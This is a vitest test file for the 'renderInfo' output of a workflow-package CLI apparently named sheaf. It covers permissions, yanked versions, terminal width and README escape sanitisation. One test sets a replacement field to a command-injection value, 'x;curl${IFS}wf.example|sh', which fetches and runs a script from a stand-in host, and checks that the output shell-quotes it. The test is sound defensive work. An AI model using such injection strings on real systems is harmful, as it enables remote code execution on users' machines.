import { describe, expect, it } from 'vitest';
import type { VersionDocument, WorkflowDocument } from '@sheaf/client/contract';
import { PLAIN } from '../terminal/style.js';
import { widthOf } from '../terminal/text.js';
import { renderInfo } from './info.js';

const KEY = `9c1f${'0'.repeat(56)}e07a`;
const SUMMARY = {
  version: '1.2.0',
  digest: `sha256:${'5b'.repeat(32)}`,
  sizeBytes: 40_960,
  blobSizeBytes: 21_811,
  state: 'active' as const,
  publishedAt: '2026-03-01T00:00:00Z',
  publishedVia: 'token',
  logIndex: 48_213,
  signers: [KEY],
};
const PERMISSIONS = {
  network: ['api.github.com'],
  exec: ['git', 'bash'],
  read: ['.'],
  write: ['dist/**'],
  secrets: ['GITHUB_TOKEN'],
};
const VERSION: VersionDocument = {
  ...SUMMARY,
  id: 'acme/release-notes',
  description: 'Write release notes from the git log',
  tags: ['git', 'release'],
  license: 'MIT',
  permissions: PERMISSIONS,
  parameters: {
    since: { type: 'string', default: 'v0', description: 'first tag' },
    to: { type: 'string', required: false },
  },
  outputs: ['text', 'notes'],
  requirements: ['git >= 2.30'],
  steps: [
    { id: 'log', needs: [] },
    { id: 'notes', needs: ['log'] },
  ],
  files: [{ path: 'workflow.toml', sizeBytes: 76_288, executable: false }],
};
const WORKFLOW: WorkflowDocument = {
  id: 'acme/release-notes',
  tags: [],
  channels: { latest: '1.2.0', beta: '1.3.0-rc.1' },
  permissions: PERMISSIONS,
  versions: [SUMMARY, { ...SUMMARY, version: '1.1.0', state: 'yanked' }],
};
const DATA = { registry: 'https://r.example', workflow: WORKFLOW, version: VERSION };
const LOOK = {
  columns: 100,
  style: PLAIN,
  talkStyle: PLAIN,
  nowMs: Date.parse('2026-03-04T00:00:00Z'),
};

const lastLine = (data: Parameters<typeof renderInfo>[0]): string | undefined =>
  renderInfo(data, LOOK).answer?.split('\n').at(-1);

describe('renderInfo', () => {
  it('shows what one decides by, permissions before prose, and the line that adds it last', () => {
    expect(renderInfo(DATA, LOOK).answer).toBe(
      [
        'acme/release-notes 1.2.0 (latest)  MIT  #git #release',
        'Write release notes from the git log',
        'published  3 days ago, key 9c1f…e07a, log #48213 (not verified: info downloads nothing)',
        'may use    network api.github.com · exec git, bash · read . · write dist/** · secrets GITHUB_TOKEN',
        'needs      git >= 2.30',
        'takes      since  string = "v0"      first tag',
        '           to     string (optional)',
        'gives      text · notes',
        'steps      log · notes ← log',
        `files      1 file, 74.5 KiB, packed 21.3 KiB ·`,
        `           ${SUMMARY.digest}`,
        'versions   2 (1 yanked) · beta 1.3.0-rc.1',
        'add        sheaf add acme/release-notes@^1.2',
      ].join('\n'),
    );
  });

  it('puts the state first, with the reason and what to use instead', () => {
    const yanked = {
      ...VERSION,
      state: 'yanked' as const,
      reason: 'loses tags',
      replacement: 'acme/notes@2.0.0',
    };
    const { answer = '' } = renderInfo({ ...DATA, version: yanked }, LOOK);
    expect(answer.split('\n')[0]).toBe('YANKED: loses tags (replacement: acme/notes@2.0.0)');
    expect(answer.split('\n').at(-1)).toBe('instead    sheaf info acme/notes@2.0.0');
    const hostile = { ...yanked, replacement: 'x;curl${IFS}wf.example|sh' };
    expect((renderInfo({ ...DATA, version: hostile }, LOOK).answer ?? '').split('\n').at(-1)).toBe(
      "instead    sheaf info 'x;curl${IFS}wf.example|sh'",
    );
  });

  it('adds an older version by its number, a qualified one by its registry, and none that is there', () => {
    expect(lastLine({ ...DATA, version: { ...VERSION, version: '1.0.0' } })).toBe(
      'add        sheaf add acme/release-notes@1.0.0',
    );
    expect(lastLine({ ...DATA, qualifier: 'corp' })).toBe(
      'add        sheaf add corp:acme/release-notes@^1.2',
    );
    expect(lastLine({ ...DATA, project: { name: 'notes', locked: ['1.1.0'] } })).toBe(
      'here       notes in sheaf.toml, locked at 1.1.0',
    );
  });

  it('fits a narrow terminal, but for what is there to be copied', () => {
    const { answer = '' } = renderInfo(DATA, { ...LOOK, columns: 60 });
    for (const line of answer.split('\n'))
      expect(widthOf(line) <= 60 || line.includes('sha256:'), line).toBe(true);
  });

  it('gives whole times in a pipe', () => {
    const { answer = '' } = renderInfo(DATA, { ...LOOK, columns: undefined });
    expect(answer).toContain('published  2026-03-01T00:00:00Z, key');
  });

  it('pages the README alone, with nothing in it that steers a terminal', () => {
    expect(renderInfo({ ...DATA, readme: '# Notes\n\u001b[2J\tx\n' }, LOOK)).toEqual({
      answer: '# Notes\n' + String.raw`\u{1b}[2J` + '\tx',
      paged: true,
    });
  });
});
